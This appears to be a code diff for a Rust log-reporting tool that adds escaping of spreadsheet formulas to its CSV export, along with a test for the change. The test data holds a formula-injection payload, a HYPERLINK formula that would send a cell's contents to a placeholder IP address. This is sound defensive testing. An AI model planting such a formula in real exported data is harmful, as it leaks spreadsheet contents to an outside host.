@@ -16,7 +16,7 @@ use datafusion::arrow::util::pretty::pretty_format_batches;
 use datafusion::arrow::{csv, json};
 use serde_json::{Value, json};
 
-use super::output::{RenderError, map_batches, printable, write_json};
+use super::output::{RenderError, map_batches, printable, spreadsheet_safe, write_json};
 use super::run::ReportResult;
 use super::timeline::Timeline;
 use crate::batch::ScanTotals;
@@ -372,6 +372,9 @@ fn json_document(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), Re
     Ok(())
 }
 
+/// One CSV section per report, under a `# name: title (rows)` line. Meant
+/// for spreadsheets: text that one would run as a formula is marked as text
+/// ([`spreadsheet_safe`]); numbers are written as they are.
 fn csv_sections(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), RenderError> {
     for (i, r) in doc.results.iter().enumerate() {
         if i > 0 {
@@ -382,7 +385,7 @@ fn csv_sections(doc: &ReportDocument<'_>, out: &mut dyn Write) -> Result<(), Ren
         if r.batches.iter().all(|b| b.num_rows() == 0) {
             w.write(&RecordBatch::new_empty(r.schema.clone()))?;
         }
-        r.batches.iter().try_for_each(|b| w.write(b))?;
+        map_batches(&r.batches, spreadsheet_safe)?.iter().try_for_each(|b| w.write(b))?;
     }
     Ok(())
 }
@@ -719,6 +722,25 @@ mod tests {
         let text = agents(vec![exactly.as_str(), "\u{1b}"]);
         assert!(text.contains(&format!("| {exactly} |")) && text.contains("| \\x1b "), "{text}");
         assert!(!text.contains("are cut here"), "{text}");
+    }
+
+    #[test]
+    fn a_csv_report_opens_in_a_spreadsheet_without_running_a_requester_s_formula() {
+        use datafusion::arrow::array::{Int64Array, StringArray};
+        let agent = "=HYPERLINK(\"http://198.51.100.7/?\"&A2,\"open\")";
+        let batch = RecordBatch::try_from_iter([
+            ("user_agent", Arc::new(StringArray::from(vec![Some(agent), Some("-x"), Some("curl/8.5.0"), None])) as _),
+            ("requests", Arc::new(Int64Array::from(vec![1, -2, 3, 4])) as _),
+        ])
+        .unwrap();
+        let results = [result("r", vec![batch])];
+        let csv = rendered(ReportFormat::Csv, &results);
+        let rows: Vec<&str> = csv.lines().skip(2).collect();
+        assert_eq!(
+            rows,
+            ["\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A2,\"\"open\"\")\",1", "'-x,-2", "curl/8.5.0,3", ",4"]
+        );
+        assert_eq!(json_of(&results)["reports"][0]["rows"][0]["user_agent"], agent, "JSON keeps the value as logged");
     }
 
     #[test]
